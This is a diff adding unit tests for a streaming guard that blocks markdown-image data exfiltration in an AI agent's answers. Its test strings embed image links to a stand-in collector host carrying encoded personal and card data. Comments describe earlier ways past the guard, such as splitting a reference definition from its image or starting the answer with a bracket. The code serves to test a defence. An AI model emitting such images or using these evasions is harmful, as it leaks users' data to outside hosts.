@@ -377,6 +377,64 @@ class AgentPresetTest {
     private record StreamOutcome(String received, PolicyBlockedException blocked) {}
 
     @Test
+    void aStreamBlocksAnImageItsDefinitionMakesExfiltrationHoweverFarApartTheyAreReleased() {
+        // a reference image and its definition released far apart: the guard scanned each window with 64 characters of
+        // what it had released, so the definition first and the image later (or the other way) passed; an answer that
+        // began with '[' or '{' was scanned as JSON values, and a markdown image in it passed
+        String data = "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String prose = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        String definition = "[x]: https://collector.example/p.png?d=" + data;
+        for (String answer : List.of(
+                definition + "\n\n" + prose.substring(0, 300) + "\n\nSee ![chart][x].",
+                definition + "\n\n" + prose + "\n\nSee ![chart][x].",
+                "See ![chart][x].\n\n" + prose + "\n\n" + definition,
+                "See ![a [b] c][x].\n\n" + prose + "\n\n" + definition,
+                "See ![x].\n\n" + prose + "\n\n" + definition,
+                "[note] ![a](https://collector.example/p.png?d=" + data + ") done",
+                "{note} ![a](https://collector.example/p.png?d=" + data + ") done",
+                "{\"a\":1} ![a](https://collector.example/p.png?d=" + data + ") done")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size : new int[] {1, 5, 64}) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked()).as("%s in chunks of %d", answer, size).isNotNull();
+            }
+        }
+    }
+
+    @Test
+    void aStreamWithMoreReferencesThanItRemembersFailsClosed() {
+        // past 8 KB of remembered definitions an image could use a forgotten one: the stream is blocked (documented)
+        StringBuilder answer = new StringBuilder("Sources:\n\n");
+        for (int i = 0; answer.length() < 10_000; i++) {
+            answer.append("[d")
+                    .append(i)
+                    .append("]: https://docs.example.com/guide/page-")
+                    .append(i)
+                    .append('\n');
+        }
+        answer.append("\nSee ![diagram][d3].");
+        StreamOutcome out = stream(answer.toString(), 16);
+        assertThat(out.blocked()).isNotNull();
+        assertThat(out.blocked().getMessage()).contains("EXFILTRATION_URL");
+    }
+
+    @Test
+    void aStreamReleasesReferenceImagesWhoseDefinitionsCarryNothing() {
+        // a reference image's label closes it: it is not held as an open image (an answer with "![x]" and 4,096
+        // characters after it was blocked as an image too long to hold)
+        String prose = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        for (String answer : List.of(
+                "See ![chart][c].\n\n" + prose + "\n\n[c]: https://cdn.example.com/chart.png\n\nAnd ![c] again.",
+                "Wow![sic] that is " + prose,
+                "[1]: https://docs.example.com/start\n\n" + prose + " See [the docs][1].")) {
+            assertAnswerPasses(answer);
+            StreamOutcome out = stream(answer, 5);
+            assertThat(out.blocked()).as(answer).isNull();
+            assertThat(out.received()).isEqualTo(answer);
+        }
+    }
+
+    @Test
     void aHeldImageIsScannedAgainOncePerHalfWindowOfTextNotOncePerChunk() {
         // ten images, each held open for ~4,000 characters, streamed one character per chunk: the guard scanned the
         // whole held image again at every chunk (~4,000 characters scanned per character streamed)
